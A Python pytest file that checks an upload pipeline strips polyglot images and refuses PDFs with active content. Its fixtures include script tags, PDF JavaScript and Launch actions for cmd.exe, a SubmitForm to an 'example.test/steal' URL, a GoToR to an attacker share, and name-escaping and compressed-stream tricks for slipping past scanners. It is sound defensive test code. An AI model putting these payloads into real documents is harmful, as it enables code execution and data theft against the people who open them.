"""The upload pipeline against polyglots and PDFs with active content."""

import hashlib
import io
import random
import zipfile
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from openprovince.core.uploads import (
    DOCUMENT,
    PHOTO,
    upload_process,
)
from tests.core.uploads_helpers import (
    assert_clean_jpeg,
    encode,
    halves,
    object_stream,
    pdf_with_catalog,
    png_chunk_types,
    refused,
    stream,
)

# --- polyglots ------------------------------------------------------------------------------


def test_given_a_jpeg_with_html_and_a_zip_appended_when_processed_then_the_stored_has_neither():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.html", "<script>alert(1)</script>")
    html = b"<html><body><script>fetch('/api/v1/me')</script></body></html>"
    data = encode(halves(), "JPEG", comment=b"<script>alert(2)</script>") + html
    data += archive.getvalue()

    result = upload_process(data=data, filename="gifar.jpg", kind=PHOTO)

    assert_clean_jpeg(result.content)
    for needle in (b"<script", b"<html", b"PK\x03\x04", b"payload"):
        assert needle not in result.content


def test_given_a_png_with_text_chunks_and_trailing_html_when_processed_then_only_pixels_remain():
    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    data = encode(Image.new("RGBA", (10, 10), (1, 2, 3, 0)), "PNG", pnginfo=info)

    result = upload_process(data=data + b"<html>x</html>", filename="a.png", kind=PHOTO)

    assert png_chunk_types(result.content) == [b"IHDR", b"IDAT", b"IEND"]
    assert b"script" not in result.content


def test_given_a_pdf_with_javascript_when_processed_then_it_is_refused():
    data = pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")

    error = refused("uploads.active_content", data=data, filename="form.pdf", kind=DOCUMENT)

    assert "PDF" in error.message


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",  # names spelled with #xx escapes
        b"<< /JS 5 0 R >>",  # the script in another object
        b"<< /JS % a comment is whitespace to a reader\n(app.alert\\(1\\)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /L#61unch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (http://example.test/steal) >>",
        b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) >>",
        b"<< /Type /Filespec /EF << /F 5 0 R >> /EmbeddedFile 5 0 R >>",
    ],
    ids=[
        "escaped",
        "js-reference",
        "js-comment",
        "launch",
        "escaped-launch",
        "submit",
        "gotor",
        "attachment",
    ],
)
def test_given_a_pdf_with_an_active_action_when_processed_then_it_is_refused(action):
    data = pdf_with_catalog(b"/OpenAction 4 0 R", action, stream(b"app.alert(1)"))
    refused("uploads.active_content", data=data, filename="x.pdf", kind=DOCUMENT)


def test_given_javascript_hidden_in_a_compressed_object_stream_when_processed_then_refused():
    packed = object_stream([(4, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")])
    data = pdf_with_catalog(b"/OpenAction 4 0 R", packed)
    assert b"JavaScript" not in data  # only decompressing shows it

    refused("uploads.active_content", data=data, filename="x.pdf", kind=DOCUMENT)


def test_given_an_object_stream_whose_dictionary_has_decoys_when_processed_then_still_refused():
    # An "obj" in a string and a comment before `stream` must not cut the dictionary short.
    packed = object_stream([(4, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")])
    packed = packed.replace(b"<< /Length", b"<< /Decoy (9 0 obj) /Length", 1)
    packed = packed.replace(b">>\nstream", b">> % comment\nstream", 1)
    data = pdf_with_catalog(b"/OpenAction 4 0 R", packed)

    refused("uploads.active_content", data=data, filename="x.pdf", kind=DOCUMENT)


@pytest.mark.parametrize(
    "hiding_place",
    [
        b"<< /Title (>>\nstream\n%s\nendstream) >>",  # in a string
        b"<< /Length 3 >>\nstream\nabc\nendstream\n%% >> stream\n%s",  # in a comment
    ],
    ids=["string", "comment"],
)
def test_given_a_stream_hidden_where_readers_do_not_look_when_processed_then_refused(
    hiding_place,
):
    # An xref offset could still send a reader there; a scan that steps over it cannot check it.
    data = pdf_with_catalog(b"", hiding_place % zlib.compress(b"<< /JS (x) >>").hex().encode())
    refused("uploads.active_content", data=data, filename="x.pdf", kind=DOCUMENT)


def test_given_bookmarks_strings_and_comments_when_processed_then_a_plain_pdf_is_accepted():
    data = pdf_with_catalog(
        b"/Outlines 4 0 R % made by hand\n",
        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        b"<< /Title (Upstream \\(river\\) stream) /Parent 4 0 R /Dest [3 0 R /Fit] >>",
        stream(zlib.compress(b"BT /F1 12 Tf (Hello) Tj ET"), b"/Filter /FlateDecode"),
    )

    assert upload_process(data=data, filename="ok.pdf", kind=DOCUMENT).content == data


def test_given_an_object_stream_packed_with_an_unchecked_filter_when_processed_then_refused():
    packed = object_stream([(4, b"<< /Type /Annot >>")], filters=b"/LZWDecode")
    refused(
        "uploads.active_content", data=pdf_with_catalog(b"", packed), filename="x", kind=DOCUMENT
    )


def test_given_a_clean_object_stream_when_processed_then_the_pdf_is_accepted():
    packed = object_stream([(4, b"<< /S /URI /URI (https://tayninh.gov.vn/) >>")])
    data = pdf_with_catalog(b"/OpenAction 4 0 R", packed)

    assert upload_process(data=data, filename="ok.pdf", kind=DOCUMENT).content == data


def test_given_a_pdf_with_a_zip_appended_when_processed_then_the_zip_is_cut_off():
    data = pdf_with_catalog()
    archive = b"PK\x03\x04" + b"payload" * 10

    result = upload_process(data=data + archive, filename="a.pdf", kind=DOCUMENT)

    assert result.content == data
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert (result.content_type, result.extension, result.thumbnail) == (
        "application/pdf",
        "pdf",
        None,
    )


def test_given_a_pdf_made_by_pillow_with_a_large_binary_image_when_processed_then_accepted():
    rng = random.Random(6266)  # noqa: S311 - reproducible test bytes
    noise = Image.frombytes("RGB", (1600, 1200), rng.randbytes(1600 * 1200 * 3))
    data = encode(noise, "PDF", resolution=150, quality=90)
    assert len(data) > 1_000_000  # random compressed bytes: must not look like "/JS ("

    result = upload_process(data=data, filename="scan.pdf", kind=DOCUMENT)

    assert result.content_type == "application/pdf"


def test_given_a_truncated_pdf_when_processed_then_unreadable():
    data = pdf_with_catalog()
    refused("uploads.unreadable", data=data[:200], filename="cut.pdf", kind=DOCUMENT)
